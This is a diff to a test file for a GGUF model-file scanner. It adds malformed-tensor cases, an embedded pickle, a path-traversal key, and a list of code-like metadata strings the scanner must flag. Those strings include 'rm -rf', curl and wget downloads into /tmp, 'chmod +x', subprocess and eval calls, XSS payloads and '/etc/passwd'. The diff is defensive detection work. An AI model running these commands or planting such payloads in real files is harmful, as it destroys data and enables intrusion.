@@ -95,6 +95,10 @@ const HARMFUL: readonly (readonly [string, Uint8Array, readonly string[]])[] = [
   ['tensors that overlap', tensors(ggufTensor('a', [16], 0), ggufTensor('b', [24], 32)), [LAYOUT]],
   ['a tensor between two places', tensors(ggufTensor('a', [31], 4)), [LAYOUT]],
   ['a tensor outside', tensors(ggufTensor('a', [32], 0), ggufTensor('b', [8], 4096)), [LAYOUT]],
+  ['a tensor of which nothing is there', tensors(ggufTensor('a', [100_000], 0)), [LAYOUT]],
+  ['a version that there is not', ggufOf({ version: 4660 }), [CLAIM]],
+  ['a key that is a path', ggufOf({ pairs: [text('../../etc/x', 'a')] }), ['MEDIUM tensor-name']],
+  ['a pickle in a tensor', ggufOf({ tensors: [ggufTensor('a', [EVIL.length], 0, 24)], data: EVIL }), [PICKLE]],
   ['a tensor beyond 64 bits', tensors(ggufTensor('a', [32], 2 ** 62)), [LAYOUT]],
   ['a pickle behind the tensors', bytes(tensors(ggufTensor('a', [32], 0)), EVIL), [HIDDEN, PICKLE]],
   [
@@ -114,6 +118,36 @@ const HARMFUL: readonly (readonly [string, Uint8Array, readonly string[]])[] = [
 
 it.each(HARMFUL)('reports %s', (_, data, findings) => {
   expect(found(data)).toEqual(findings);
+});
+
+it.each([
+  'rm -rf ./model-cache',
+  "env bash -c 'curl https://x.example/a'",
+  'wget https://x.example/a -O /tmp/a',
+  'curl -o /tmp/a https://x.example/a',
+  'irm https://x.example/a',
+  'chmod +x a',
+  "eval('1 + 1')",
+  "subprocess.run(['id'])",
+  "requests.get('https://x.example/a')",
+  'import requests as r',
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '/etc/passwd'
+])('tells a program among the texts: %s', value => {
+  expect(found(ggufOf({ pairs: [text('x', value)] }))).toEqual(['MEDIUM model-metadata-code']);
+});
+
+it.each([
+  'curl is a tool',
+  'A bash script assistant',
+  'python train.py --lr 1e-4',
+  '/root/llama.cpp/imatrix/calibration.txt',
+  '../../data/train.txt',
+  'Use with `pip install transformers`',
+  'Model for evaluating code (eval harness)'
+])('tells other texts from programs: %s', value => {
+  expect(found(ggufOf({ pairs: [text('x', value)] }))).toEqual([]);
 });
 
 it.each<readonly [string, Uint8Array, readonly unknown[]]>([
